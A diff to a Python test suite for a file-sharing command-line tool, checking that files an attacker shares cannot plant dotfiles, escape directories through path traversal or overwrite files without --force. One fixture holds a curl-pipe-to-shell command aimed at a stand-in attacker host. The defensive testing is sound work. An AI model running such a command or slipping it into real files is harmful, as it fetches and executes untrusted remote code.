@@ -44,8 +44,9 @@ def stored(mallory, tmp_path, name: str, content: bytes, *options: str) -> dict:
 
 
 def shared_with_bob(mallory, tmp_path, name: str, content: bytes) -> str:
+    """The share's id; ids are passed after '--', as one may begin with '-'."""
     file_id = stored(mallory, tmp_path, name, content)["fileId"]
-    return mallory.device.imegha("share", "add", file_id, "--with", "Bob").json["shareId"]
+    return mallory.device.imegha("share", "add", "--with", "Bob", "--", file_id).json["shareId"]
 
 
 def a_directory(parent: Path, name: str = "home") -> Path:
@@ -73,7 +74,7 @@ def test_a_shared_dotfile_lands_under_a_plain_name_beside_bobs_own(mallory, bob,
     (home / ".bashrc").write_text("Bob's own shell settings")
     share_id = shared_with_bob(mallory, tmp_path, ".bashrc", b"curl https://mallory.example/x | sh\n")
 
-    got = bob.device.imegha("shared", "get", share_id, "-o", str(home)).json
+    got = bob.device.imegha("shared", "get", "-o", str(home), "--", share_id).json
 
     assert got["written"] == [str(home / "bashrc")]
     assert everything_in(home) == {
@@ -97,7 +98,7 @@ def test_a_sealed_name_with_a_path_or_controls_stays_one_plain_file_in_the_direc
 
     for sealed, written in names.items():
         share_id = shared_with_bob(mallory, tmp_path, sealed, sealed.encode())
-        got = bob.device.imegha("shared", "get", share_id, "-o", str(downloads)).json
+        got = bob.device.imegha("shared", "get", "-o", str(downloads), "--", share_id).json
         assert got["written"] == [str(downloads / written)], sealed
 
     assert everything_in(outer) == {
@@ -125,7 +126,7 @@ def test_the_name_written_is_the_one_bob_picked_from_the_listing_not_one_the_dow
         }
 
     monkeypatch.setattr(FilesApi, "download_received", answer_naming_a_dotfile)
-    got = bob.device.imegha("shared", "get", share_id, "-o", str(downloads)).json
+    got = bob.device.imegha("shared", "get", "-o", str(downloads), "--", share_id).json
 
     assert got["written"] == [str(downloads / "Invoice.pdf")]
     assert everything_in(downloads) == {".bashrc": b"Bob's own shell settings", "Invoice.pdf": b"%PDF-1.7 invoice"}
@@ -140,7 +141,7 @@ def test_a_shared_folder_named_ssh_is_no_ssh_directory_and_its_files_stay_inside
     stored(mallory, tmp_path, "../../escape", b"out", "--folder", ".ssh")
     share_id = mallory.device.imegha("share", "add", ".ssh", "--with", "Bob", "--kind", "folder").json["shareId"]
 
-    got = bob.device.imegha("shared", "get", share_id, "-o", str(home)).json
+    got = bob.device.imegha("shared", "get", "-o", str(home), "--", share_id).json
 
     assert sorted(got["written"]) == [str(home / "ssh" / "_.._escape"), str(home / "ssh" / "authorized_keys")]
     assert everything_in(home) == {
@@ -163,23 +164,23 @@ def test_an_existing_file_is_replaced_only_with_force(mallory, bob, tmp_path):
         (minutes, downloads / "Minutes.txt", downloads / "Minutes.txt"),
         (notes, downloads / "Notes.txt", downloads),
     ):
-        refused = bob.device.imegha("shared", "get", share_id, "-o", str(output))
+        refused = bob.device.imegha("shared", "get", "-o", str(output), "--", share_id)
         assert refused.status == 1, refused.stdout
         assert str(target) in refused.error["message"] and "--force" in refused.error["message"]
-        shown = bob.device.imegha("shared", "get", share_id, "-o", str(output), human=True)
+        shown = bob.device.imegha("shared", "get", "-o", str(output), "--", share_id, human=True)
         assert shown.status == 1 and shown.stderr.startswith(f"imegha: {target} ")
     assert everything_in(downloads) == before and not (tmp_path / "somewhere-else.txt").exists()
 
-    forced = bob.device.imegha("shared", "get", minutes, "-o", str(downloads), "--force").json
+    forced = bob.device.imegha("shared", "get", "-o", str(downloads), "--force", "--", minutes).json
     assert forced["written"] == [str(downloads / "Minutes.txt")]
     assert (downloads / "Minutes.txt").read_bytes() == b"Mallory's minutes"
 
     own = stored(mallory, tmp_path, "Agenda.txt", b"the agenda")["fileId"]
     (downloads / "Agenda.txt").write_text("Mallory's older agenda")
-    kept = mallory.device.imegha("files", "get", own, "-o", str(downloads))
+    kept = mallory.device.imegha("files", "get", "-o", str(downloads), "--", own)
     assert kept.status == 1 and "--force" in kept.error["message"]
     assert (downloads / "Agenda.txt").read_text() == "Mallory's older agenda"
-    assert mallory.device.imegha("files", "get", own, "-o", str(downloads), "--force").json["path"] == str(
+    assert mallory.device.imegha("files", "get", "-o", str(downloads), "--force", "--", own).json["path"] == str(
         downloads / "Agenda.txt"
     )
     assert (downloads / "Agenda.txt").read_bytes() == b"the agenda"
